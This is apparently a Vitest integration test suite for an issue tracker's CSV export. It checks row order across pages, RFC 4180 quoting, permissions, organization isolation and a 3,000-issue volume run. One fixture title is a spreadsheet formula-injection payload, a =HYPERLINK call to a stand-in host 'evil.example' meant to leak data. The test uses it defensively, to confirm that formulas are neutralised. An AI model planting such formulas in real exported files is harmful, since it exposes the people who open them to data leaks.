/**
 * /issues.csv over real HTTP on the demo seed: the file lists exactly what /issues lists, page after page, for the
 * same filters, search and sort; it is a spreadsheet-safe CSV (BOM, RFC 4180 quoting, formulas neutralised); it is
 * for members with issue:view only and never holds another organization's issues; and at volume (3,000 issues
 * written with generate_series) it holds every one of them.
 */
import { and, asc, desc, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { resetRateLimits } from "~/lib/rate-limit.server";
import type { Db } from "../../db/client.server";
import { issues, issueStatuses, machines, priorities } from "../../db/schema";
import { seedDatabase } from "../../db/seed.server";
import { createTestDb, type TestDb } from "../helpers/db";
import { orgIdOf, userIdOf } from "../helpers/fixtures";
import { startTestServer, type TestClient, type TestServer } from "../helpers/http";
import { reportIssueAs } from "../helpers/issue-actors";

process.env.SESSION_SECRET ??= "test-session-secret-that-is-long-enough-0123456789";

const HEADER = [
  "ID",
  "Title",
  "Machine",
  "Location",
  "Status",
  "Status category",
  "Priority",
  "Assignee",
  "Reported by",
  "Created (UTC)",
  "Updated (UTC)",
  "Resolved (UTC)",
  "Me too votes",
  "Link",
];
const HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?leak","Click for details")';

let t: TestDb;
let db: Db;
let server: TestServer;
let apc: string;
let beta: string;
let member: TestClient;

beforeAll(async () => {
  t = await createTestDb();
  db = t.db;
  await seedDatabase(db, { demo: true });
  apc = await orgIdOf(db, "apc");
  beta = await orgIdOf(db, "beta");
  const [machine] = await db
    .select({ id: machines.id })
    .from(machines)
    .where(eq(machines.organizationId, apc))
    .orderBy(asc(machines.name))
    .limit(1);
  await reportIssueAs(db, {
    organizationId: apc,
    machineId: machine.id,
    title: HYPERLINK_TITLE,
    description: "A title that a spreadsheet would run as a formula",
    reporter: { name: 'Mallory, the "guest"' },
  });
  await reportIssueAs(db, {
    organizationId: apc,
    machineId: machine.id,
    title: 'Café flipper, "weak" again',
    reporter: { userId: await userIdOf(db, "member@dev.local") },
  });
  server = await startTestServer(db);
  member = server.client();
  await member.login("member@dev.local");
});

afterAll(async () => {
  await server?.close();
  await t?.close();
});

beforeEach(() => resetRateLimits());

/** RFC 4180 records (CRLF or LF line ends, quoted fields with doubled quotes and line breaks), written for the test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      // the CRLF is handled at the LF
    } else if (ch === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += ch;
  }
  expect(quoted, "unterminated quoted field").toBe(false);
  expect(field === "" && row.length === 0, "the last record ends with a line break").toBe(true);
  return rows;
}

/** The file as bytes (fetch's text() would drop the BOM), with the client's cookie and organization. */
async function download(client: TestClient, path: string) {
  const headers: Record<string, string> = {};
  if (client.org) headers["X-Organization"] = client.org;
  if (client.cookies.size) headers.cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join("; ");
  const res = await fetch(server.url + path, { headers, redirect: "manual" });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

async function csvRows(client: TestClient, path: string) {
  const { res, bytes, text } = await download(client, path);
  expect(res.status, path).toBe(200);
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...rows] = parseCsv(text.slice(1));
  expect(header).toEqual(HEADER);
  for (const r of rows) expect(r).toHaveLength(HEADER.length);
  return rows;
}

const idsIn = (html: string) =>
  [...html.matchAll(/href="\/issues\/([a-z0-9]+)"/g)].map((m) => m[1]).filter((id) => id !== "new");

/** Every issue id of /issues?<query>, in order, following the Next links to the last page. */
async function listIds(client: TestClient, query: string): Promise<string[]> {
  const ids: string[] = [];
  let next: string | null = `/issues${query ? `?${query}` : ""}`;
  for (let guard = 0; next && guard < 200; guard++) {
    const page = await client.get(next);
    expect(page.status, next).toBe(200);
    ids.push(...idsIn(page.text));
    const link = page.text.match(/<a [^>]*rel="next"[^>]*>/)?.[0].match(/href="([^"]+)"/)?.[1];
    next = link ? link.replace(/&amp;/g, "&") : null;
  }
  expect(next).toBeNull();
  return ids;
}

describe("/issues.csv is the list", () => {
  const queries = [
    "",
    "category=all",
    "category=all&sort=priority&dir=asc",
    "category=all&sort=upvotes",
    "category=closed&sort=updated&dir=asc",
    "assignee=me&category=all&sort=priority",
    "reporter=anonymous&category=all&sort=created&dir=asc",
    "q=flipper&category=all",
    "sort=bogus&dir=sideways&category=nope",
  ];
  it.each(queries)("has the rows of /issues?%s, in its order, across all its pages", async (query) => {
    const expected = await listIds(member, query);
    const rows = await csvRows(member, `/issues.csv${query ? `?${query}` : ""}`);
    expect(rows.map((r) => r[0])).toEqual(expected);
  });

  it("holds more than one page of the list", async () => {
    const all = await listIds(member, "category=all");
    expect(all.length).toBeGreaterThan(25);
    const [{ n }] = await db
      .select({ n: sql<number>`count(*)::int` })
      .from(issues)
      .where(eq(issues.organizationId, apc));
    expect(all).toHaveLength(n);
  });

  it("ignores the page cursor: the file always starts at the first row", async () => {
    const first = await member.get("/issues?category=all");
    const after = first.text.match(/<a [^>]*rel="next"[^>]*>/)![0].match(/href="\/issues\?([^"]+)"/)![1];
    const rows = await csvRows(member, `/issues.csv?${after.replace(/&amp;/g, "&")}`);
    expect(rows.map((r) => r[0])).toEqual(await listIds(member, "category=all"));
  });

  it("finds issues by search and nothing for a word no issue has", async () => {
    const rows = await csvRows(member, "/issues.csv?q=" + encodeURIComponent('"left ramp"') + "&category=all");
    expect(rows.map((r) => r[1])).toContain("Kaiju figures on left ramp not responding");
    expect(rows.map((r) => r[0])).toEqual(await listIds(member, "q=%22left+ramp%22&category=all"));
    expect(await csvRows(member, "/issues.csv?q=zzzznotaword&category=all")).toEqual([]);
  });
});

describe("the Download CSV link on /issues", () => {
  it("carries the list's filters, search and sort, without the page cursor", async () => {
    const plain = await member.get("/issues");
    expect(plain.text).toMatch(
      /<a href="\/issues\.csv" download="">Download CSV<\/a>|<a [^>]*href="\/issues\.csv"[^>]*>Download CSV<\/a>/,
    );
    const first = await member.get("/issues?category=all&sort=priority&dir=asc");
    const next = first.text.match(/<a [^>]*rel="next"[^>]*>/)![0].match(/href="([^"]+)"/)![1];
    expect(next).toContain("after=");
    const page = await member.get(next.replace(/&amp;/g, "&"));
    const href = page.text
      .match(/<a [^>]*href="(\/issues\.csv[^"]*)"[^>]*>Download CSV<\/a>/)![1]
      .replace(/&amp;/g, "&");
    expect(href).toBe("/issues.csv?category=all&sort=priority&dir=asc");
  });
});

describe("the file", () => {
  it("is a UTF-8 CSV attachment named after the organization and the day", async () => {
    const { res, text } = await download(member, "/issues.csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const day = new Date().toISOString().slice(0, 10);
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    expect([
      `attachment; filename="issues-apc-${day}.csv"`,
      `attachment; filename="issues-apc-${yesterday}.csv"`,
    ]).toContain(res.headers.get("content-disposition"));
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    expect(text.startsWith("\uFEFFID,Title,Machine,")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it("neutralises a title that a spreadsheet would run as a formula and quotes by RFC 4180", async () => {
    const { text } = await download(member, "/issues.csv?category=all");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""Click for details"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(text).toContain(`"Mallory, the ""guest"" (guest)"`);
    const rows = parseCsv(text.slice(1)).slice(1);
    const evil = rows.find((r) => r[1].includes("HYPERLINK"))!;
    expect(evil[1]).toBe(`'${HYPERLINK_TITLE}`);
    expect(evil[8]).toBe('Mallory, the "guest" (guest)');
    const cafe = rows.find((r) => r[1].startsWith("Café"))!;
    expect(cafe[1]).toBe('Café flipper, "weak" again');
  });

  it("has the columns a spreadsheet user needs, as the database has them", async () => {
    const rows = await csvRows(member, "/issues.csv?category=all");
    const byId = new Map(rows.map((r) => [r[0], r]));
    const sample = await db
      .select({
        id: issues.id,
        title: issues.title,
        createdAt: issues.createdAt,
        resolvedAt: issues.resolvedAt,
        machine: machines.name,
        status: issueStatuses.name,
        category: issueStatuses.category,
        priority: priorities.name,
      })
      .from(issues)
      .innerJoin(machines, eq(machines.id, issues.machineId))
      .innerJoin(issueStatuses, eq(issueStatuses.id, issues.statusId))
      .innerJoin(priorities, eq(priorities.id, issues.priorityId))
      .where(eq(issues.organizationId, apc));
    expect(byId.size).toBe(sample.length);
    const labels = { NEW: "Open", IN_PROGRESS: "In progress", RESOLVED: "Closed" };
    for (const s of sample) {
      const r = byId.get(s.id)!;
      expect(r[2]).toBe(s.machine);
      expect(r[4]).toBe(s.status);
      expect(r[5]).toBe(labels[s.category]);
      expect(r[6]).toBe(s.priority);
      expect(r[9]).toBe(s.createdAt.toISOString().slice(0, 19).replace("T", " "));
      expect(r[11]).toBe(s.resolvedAt ? s.resolvedAt.toISOString().slice(0, 19).replace("T", " ") : "");
      expect(r[12]).toMatch(/^\d+$/);
      expect(r[13]).toBe(`${server.url}/issues/${s.id}`);
    }
    // A closed issue has its resolution time.
    expect(sample.some((s) => s.resolvedAt && byId.get(s.id)![11] !== "")).toBe(true);
  });

  it("never contains e-mail addresses", async () => {
    const { text } = await download(member, "/issues.csv?category=all");
    expect(text).not.toMatch(/@[a-z0-9-]+\.(local|dev|com)/i);
  });
});

describe("who may download", () => {
  it("sends anonymous visitors to sign in, like /issues", async () => {
    const anon = await server.client().get("/issues.csv?category=all&q=flipper");
    expect(anon.status).toBe(302);
    expect(anon.location).toBe(`/login?redirectTo=${encodeURIComponent("/issues.csv?category=all&q=flipper")}`);
  });

  it("refuses signed-in people who are not members, and never mixes organizations", async () => {
    const outsider = server.client();
    await outsider.login("admin@beta.local");
    const refused = await outsider.get("/issues.csv");
    expect(refused.status).toBe(403);
    expect(refused.headers.get("content-type")).not.toContain("text/csv");

    const betaAdmin = server.client({ org: "beta" });
    await betaAdmin.login("admin@beta.local");
    const betaRows = await csvRows(betaAdmin, "/issues.csv?category=all");
    const betaIds = await db.select({ id: issues.id }).from(issues).where(eq(issues.organizationId, beta));
    expect(new Set(betaRows.map((r) => r[0]))).toEqual(new Set(betaIds.map((r) => r.id)));
    const apcRows = await csvRows(member, "/issues.csv?category=all");
    const apcIds = new Set(apcRows.map((r) => r[0]));
    expect(betaRows.some((r) => apcIds.has(r[0]))).toBe(false);

    // Another organization's ids in the filters find nothing.
    const [betaMachine] = await db.select({ id: machines.id }).from(machines).where(eq(machines.organizationId, beta));
    expect(await csvRows(member, `/issues.csv?category=all&machine=${betaMachine.id}`)).toEqual([]);
  });
});

describe("at volume", () => {
  it("holds every one of 3,000 issues, once each and in the list's order, and none of another organization", async () => {
    const [machine] = await db.select({ id: machines.id }).from(machines).where(eq(machines.organizationId, beta));
    const [status] = await db
      .select({ id: issueStatuses.id })
      .from(issueStatuses)
      .where(and(eq(issueStatuses.organizationId, beta), eq(issueStatuses.isDefault, true)));
    const [priority] = await db
      .select({ id: priorities.id })
      .from(priorities)
      .where(and(eq(priorities.organizationId, beta), eq(priorities.isDefault, true)));
    // Timestamps repeat every 100 issues: ties on the sort key, broken by id, across the export's pages.
    await db.execute(sql`
      INSERT INTO "Issue" (id, title, "createdAt", "updatedAt", "organizationId", "machineId", "statusId", "priorityId", "followToken")
      SELECT 'vx_' || lpad(g.i::text, 5, '0'), 'Volume issue ' || g.i || CASE WHEN g.i % 7 = 0 THEN ', with "quotes"' ELSE '' END,
             now() - (g.i % 100) * interval '1 minute', now(), ${beta}, ${machine.id}, ${status.id}, ${priority.id},
             md5('export-' || g.i)
      FROM generate_series(1, 3000) AS g(i)`);

    const betaAdmin = server.client({ org: "beta" });
    await betaAdmin.login("admin@beta.local");
    const rows = await csvRows(betaAdmin, "/issues.csv?category=all");
    const expected = await db
      .select({ id: issues.id })
      .from(issues)
      .innerJoin(issueStatuses, eq(issueStatuses.id, issues.statusId))
      .where(eq(issues.organizationId, beta))
      .orderBy(desc(issues.createdAt), desc(issues.id));
    expect(expected.length).toBeGreaterThanOrEqual(3000);
    expect(rows.map((r) => r[0])).toEqual(expected.map((r) => r.id));
    expect(rows.filter((r) => r[1].endsWith(', with "quotes"'))).toHaveLength(428);

    // Sorted by priority (the list's per-priority read) and searched: still every match.
    const searched = await csvRows(betaAdmin, "/issues.csv?category=all&q=volume&sort=priority&dir=asc");
    expect(searched).toHaveLength(3000);
    expect(new Set(searched.map((r) => r[0])).size).toBe(3000);

    // The other organization's export is unchanged by all this.
    const apcRows = await csvRows(member, "/issues.csv?category=all");
    expect(apcRows.some((r) => r[0].startsWith("vx_"))).toBe(false);
  });
});
